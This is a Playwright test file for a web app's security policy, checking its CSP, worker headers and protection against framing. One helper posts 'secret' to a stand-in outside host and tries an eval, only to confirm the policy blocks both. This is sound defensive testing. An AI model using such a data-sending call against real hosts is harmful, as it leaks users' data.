import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Worker } from '@playwright/test';
import { SECURITY_HEADERS } from '../../scripts/securityHeaders';
import { test, expect, openSample } from './fixtures';

// The fixture fails any test on a request to another origin or a console error; this one
// walks every route of the sample project so each page is held to that.
test('every route of the sample project stays on this origin without console errors', async ({ page }) => {
  const projectId = await openSample(page);
  // Govern opens on its Gates view.
  for (const [stage, heading] of [['frame', 'Frame'], ['data', 'Data'], ['model', 'Model'], ['deploy', 'Deploy'], ['monitor', 'Monitor'], ['govern', 'Gates']]) {
    await page.goto(`/#/p/${projectId}/${stage}`);
    await expect(page.getByRole('heading', { level: 2, name: heading, exact: true })).toBeVisible();
  }
  for (const view of ['monitor/drift', 'govern/summary', 'govern/snapshot']) {
    await page.goto(`/#/p/${projectId}/${view}`);
    await expect(page.getByRole('heading', { level: 2 }).first()).toBeVisible();
  }
  for (const lab of ['/#/lab/ctr', '/#/lab/ctr/present']) {
    await page.goto(lab);
    await expect(page.getByText(/^Week 0 of 13 simulated/)).toBeVisible({ timeout: 30_000 });
  }
  await page.goto('/#/system');
  await expect(page.getByTestId('backend-name')).toBeVisible();
  await page.goto('/#/');
  await expect(page.getByRole('heading', { level: 1, name: 'Projects' })).toBeVisible();
});

test('the built page carries a strict Content-Security-Policy', async ({ page }) => {
  await page.goto('/');
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain('unsafe-eval');
  expect(csp).not.toContain('unsafe-inline');
  // A meta policy cannot stop framing: browsers ignore frame-ancestors there (the header has it).
  expect(csp).not.toContain('frame-ancestors');
});

/** What the app's policy forbids, tried from inside a worker: a string evaluated, a request to another origin. */
const tryForbidden = (worker: Worker) =>
  worker.evaluate(async () => {
    // In a task of its own: DevTools lifts the eval ban for the duration of its own evaluation.
    await new Promise((resolve) => setTimeout(resolve));
    let evaluated: string;
    try {
      evaluated = String((0, eval)('6 * 7'));
    } catch (error) {
      evaluated = (error as Error).name;
    }
    const fetched = await fetch('http://example.invalid/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked');
    return { evaluated, fetched };
  });

// A worker takes its policy from the response that delivered its script, not from the page's
// meta tag. Playwright evaluates in the real workers the app started from its own scripts (no
// test code ships in the build, and no app code evaluates strings); the attempts inside are
// judged by the worker's own policy. The stub makes a request that did leave visible as "sent".
test("the app's workers and service worker are served with the security headers, which block eval and other origins inside them", async ({ page, context, request, watch }) => {
  watch.allow.push(/Content Security Policy/);
  await context.route('http://example.invalid/**', (route) => route.fulfill({ body: 'stub', contentType: 'text/plain' }));
  const started = () => page.workers().map((w) => new URL(w.url()).pathname.replace(/-[\w-]+\.js$/, ''));
  await openSample(page);
  await page.getByRole('navigation', { name: 'Lifecycle stages' }).getByRole('link', { name: /Data/ }).click();
  await expect.poll(started).toContain('/assets/data.worker');
  // TF.js on WebGL in the compute worker still starts under the policy (the backend measurement starts it).
  await page.goto('/#/system');
  await expect(page.getByTestId('backend-webgl').getByRole('cell').nth(2)).toHaveText(/SwiftShader/, { timeout: 45_000 });
  expect(started().sort()).toEqual(['/assets/compute.worker', '/assets/data.worker']);
  const serviceWorker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));

  const workers = [...page.workers(), serviceWorker];
  for (const worker of workers) expect(await tryForbidden(worker), worker.url()).toEqual({ evaluated: 'EvalError', fetched: 'blocked' });
  for (const url of ['/', ...workers.map((w) => w.url())]) {
    const headers = (await request.head(url)).headers();
    for (const [name, value] of Object.entries(SECURITY_HEADERS)) expect(headers[name.toLowerCase()], `${name} of ${url}`).toBe(value);
  }
});

test('a page of another origin cannot show the app in a frame', async ({ browser, baseURL }) => {
  // Another local port (Chromium keeps public pages from framing local ones anyway), in a
  // separate context: it is another origin, and the refusal logs a console error.
  const server = createServer((_, response) => response.end(`<iframe src="${baseURL}/" title="app"></iframe>`));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const context = await browser.newContext();
  const page = await context.newPage();
  const refusals: string[] = [];
  page.on('console', (m) => { if (/frame-ancestors/.test(m.text())) refusals.push(m.text()); });
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Projects' })).toHaveCount(0);
  await context.close();
  server.close();
});
